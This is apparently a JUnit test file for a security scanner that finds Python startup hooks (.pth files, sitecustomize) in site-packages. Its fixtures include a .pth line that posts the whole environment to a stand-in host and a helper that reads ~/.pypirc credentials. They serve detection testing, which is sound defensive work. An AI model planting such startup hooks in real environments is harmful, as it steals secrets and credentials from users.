package dev.auditpath.examine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.auditpath.host.Host;
import dev.auditpath.host.Problems;
import dev.auditpath.model.EnvironmentKind;
import dev.auditpath.model.Evidence;
import dev.auditpath.model.Inventory;
import dev.auditpath.model.Platform;
import dev.auditpath.model.PythonEnvironment;
import dev.auditpath.model.StartupHook;
import dev.auditpath.testing.Machines;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Code that Python runs at every start, in folders laid out as installers lay them out. */
class StartupHooksTest {
  @TempDir private Path prefix;
  private Path site;

  @BeforeEach
  void layOut() throws IOException {
    site = Files.createDirectories(prefix.resolve("lib/python3.11/site-packages"));
  }

  @Test
  void aLineThatSendsTheEnvironmentIsFoundWithWhatItReaches() throws IOException {
    Files.writeString(
        site.resolve("zz.pth"),
        """
        /somewhere
        import os, urllib.request; urllib.request.urlopen('http://example.invalid', repr(dict(os.environ)).encode())
        """);
    List<StartupHook> hooks = hooks();
    assertThat(hooks).hasSize(1);
    assertThat(hooks.get(0).line()).isEqualTo(2);
    assertThat(hooks.get(0).behaviour().effects())
        .extracting(Evidence::kind)
        .contains("network", "environment");
  }

  @Test
  void theCodeOfAModuleThatALineImportsIsRead() throws IOException {
    Files.writeString(site.resolve("helper.pth"), "import helper_start\n");
    Files.writeString(
        site.resolve("helper_start.py"),
        "import os\nopen(os.path.expanduser('~/.pypirc')).read()\n");
    assertThat(hooks().get(0).behaviour().effects())
        .extracting(Evidence::kind)
        .contains("credentials");
  }

  @Test
  void sitecustomizeIsReadAndAnEmptyOneIsNothing() throws IOException {
    Files.writeString(site.resolve("usercustomize.py"), "\n");
    assertThat(hooks()).isEmpty();
    Files.writeString(site.resolve("sitecustomize.py"), "import sys\nsys.setrecursionlimit(9)\n");
    assertThat(hooks()).hasSize(1);
    assertThat(hooks().get(0).behaviour().effects()).isEmpty();
  }

  @Test
  void whatSetuptoolsAndItsLikeWriteIsLeftOut() throws IOException {
    Files.writeString(
        site.resolve("distutils-precedence.pth"),
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') =="
            + " 'local'; enabled and __import__('_distutils_hack').add_shim(); ");
    Files.writeString(site.resolve("_virtualenv.pth"), "import _virtualenv");
    Files.writeString(site.resolve("plain.pth"), "/some/where\n# import os\n");
    Files.writeString(
        site.resolve("homebrew_deps.pth"),
        "import site; site.addsitedir('/opt/homebrew/opt/certifi/lib/python3.11/site-packages')\n");
    assertThat(hooks()).isEmpty();
  }

  @Test
  void aFolderIsNotHomebrewsForItsBeginning() throws IOException {
    Files.writeString(
        site.resolve("homebrew_deps.pth"),
        "import site; site.addsitedir('/opt/homebrew/opt/../../../tmp/x')\n");
    assertThat(hooks()).hasSize(1);
  }

  @Test
  void aKnownFileIsLeftOutForItsDistributionsSakeAlone() throws IOException {
    Files.writeString(site.resolve("hunter.pth"), "import os; os.environ.get('PYTHONHUNTER')\n");
    assertThat(hooks()).as("nobody's").hasSize(1);
    Path metadata = Files.createDirectories(site.resolve("hunter-3.7.0.dist-info"));
    Files.writeString(metadata.resolve("METADATA"), "Name: hunter\nVersion: 3.7.0\n");
    Files.writeString(metadata.resolve("RECORD"), "hunter.pth,,\n");
    assertThat(hooks()).as("hunter's").isEmpty();
  }

  @Test
  void whatRootAlonePutOutsideTheHomeIsTheAdministrators() throws IOException {
    assumeTrue(Machines.real(prefix).userId() == 0, "needs root");
    Files.writeString(site.resolve("proxy.pth"), "import os; os.environ.get('X')\n");
    Host outside = Machines.real(prefix);
    Host below =
        new Host(Platform.LINUX, Path.of("/"), prefix, prefix, 0, Map.of(), Clock.systemUTC());
    assertThat(systems(outside).administrators()).isTrue();
    assertThat(hooks().get(0).administrators()).as("in a virtual environment").isFalse();
    assertThat(systems(below).administrators()).as("below the home directory").isFalse();
    Files.setPosixFilePermissions(
        site.resolve("proxy.pth"), PosixFilePermissions.fromString("rw-rw-r--"));
    assertThat(systems(outside).administrators()).as("others can write to it").isFalse();
  }

  private List<StartupHook> hooks() {
    return hooks(Machines.real(prefix), "venv");
  }

  private StartupHook systems(Host host) {
    return hooks(host, "system").get(0);
  }

  private List<StartupHook> hooks(Host host, String kind) {
    PythonEnvironment environment =
        new PythonEnvironment(
            new EnvironmentKind(kind), prefix, prefix.resolve("bin"), "3.11.7", List.of(site));
    Inventory inventory = new Inventory(List.of(), Map.of(), List.of(environment), 0);
    return new StartupHooks(host, new Problems(host), new StaticReader()).of(inventory);
  }
}
